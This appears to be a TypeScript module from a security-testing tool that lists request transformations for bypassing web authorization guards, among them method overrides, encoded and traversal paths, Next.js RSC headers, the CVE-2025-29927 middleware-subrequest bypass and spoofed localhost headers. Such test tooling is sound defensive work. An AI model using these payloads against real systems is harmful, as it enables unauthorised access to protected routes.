import type { Ask } from './raw-request';

/** Ways to say the same, or to say that it was judged already, that led past the guards of other programs. */
export const DETOURS: Record<string, (asked: Ask) => Ask> = {
  HEAD: (asked) => ({ ...asked, method: 'HEAD', body: undefined }),
  OPTIONS: (asked) => ({ ...asked, method: 'OPTIONS', body: undefined }),
  'another method': (asked) =>
    withHeaders(asked, { 'x-http-method-override': 'GET', 'x-method-override': 'GET' }),
  'a slash at the end': (asked) => ({ ...asked, path: `${asked.path}/` }),
  'two slashes in front': (asked) => ({ ...asked, path: `/${asked.path}` }),
  'two slashes within': (asked) => ({
    ...asked,
    path: asked.path.replace('/', '//').replace(/\/(?=[^/]*$)/, '//'),
  }),
  'an encoded letter': (asked) => ({ ...asked, path: asked.path.replace(/[a-z](?=[^a-z]*$)/, hex) }),
  'an encoded first letter': (asked) => ({ ...asked, path: asked.path.replace(/[a-z]/, hex) }),
  'an encoded slash': (asked) => ({ ...asked, path: asked.path.replace(/\/(?=[^/]*$)/, '%2f') }),
  'a backslash': (asked) => ({ ...asked, path: asked.path.replace(/\/(?=[^/]*$)/, '\\') }),
  'a dot within': (asked) => ({ ...asked, path: asked.path.replace(/\/(?=[^/]*$)/, '/./') }),
  'a way back': (asked) => ({ ...asked, path: `/api/health/..${asked.path.replace(/^\/api/, '')}` }),
  'an encoded way back': (asked) => ({ ...asked, path: `/sign-in/%2e%2e${asked.path}` }),
  capitals: (asked) => ({ ...asked, path: asked.path.toUpperCase() }),
  'a parameter of the path': (asked) => ({ ...asked, path: `${asked.path};a=b` }),
  'an ending of Next': (asked) => ({ ...asked, path: `${asked.path}.rsc` }),
  'a segment of Next': (asked) => ({ ...asked, path: `${asked.path}.segments/_tree.segment.rsc` }),
  RSC: (asked) => withHeaders(asked, { rsc: '1' }),
  'RSC by the query': (asked) => withHeaders({ ...asked, path: `${asked.path}?_rsc=a1b2c` }, { rsc: '1' }),
  'a prefetch': (asked) => withHeaders(asked, { rsc: '1', 'next-router-prefetch': '1' }),
  'a prefetch of a segment': (asked) =>
    withHeaders(asked, { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' }),
  'a purpose': (asked) => withHeaders(asked, { purpose: 'prefetch', 'sec-purpose': 'prefetch' }),
  // CVE-2025-29927, for each place that the guard of a version has had.
  ...Object.fromEntries(
    ['middleware', 'src/middleware', 'pages/_middleware', 'proxy', 'src/proxy', 'app/api/v1'].map((name) => [
      `already passed ${name}`,
      (asked: Ask) => withHeaders(asked, { 'x-middleware-subrequest': Array(5).fill(name).join(':') }),
    ]),
  ),
  'already judged': (asked) =>
    withHeaders(asked, {
      'x-middleware-next': '1',
      'x-middleware-rewrite': asked.path,
      'x-middleware-override-headers': 'authorization',
      'x-middleware-request-authorization': 'Bearer rlv_',
    }),
  'another address': (asked) =>
    withHeaders(
      { ...asked, path: '/api/health' },
      {
        'x-original-url': asked.path,
        'x-rewrite-url': asked.path,
        'x-invoke-path': asked.path,
        'x-matched-path': asked.path,
      },
    ),
  'from this machine': (asked) =>
    withHeaders(asked, {
      forwarded: 'for=127.0.0.1',
      'x-real-ip': '127.0.0.1',
      'x-relevo-pass': 'undefined',
    }),
};

const hex = (letter: string) => `%${letter.charCodeAt(0).toString(16)}`;
export const withHeaders = (asked: Ask, headers: Record<string, string>): Ask => ({
  ...asked,
  headers: { ...asked.headers, ...headers },
});
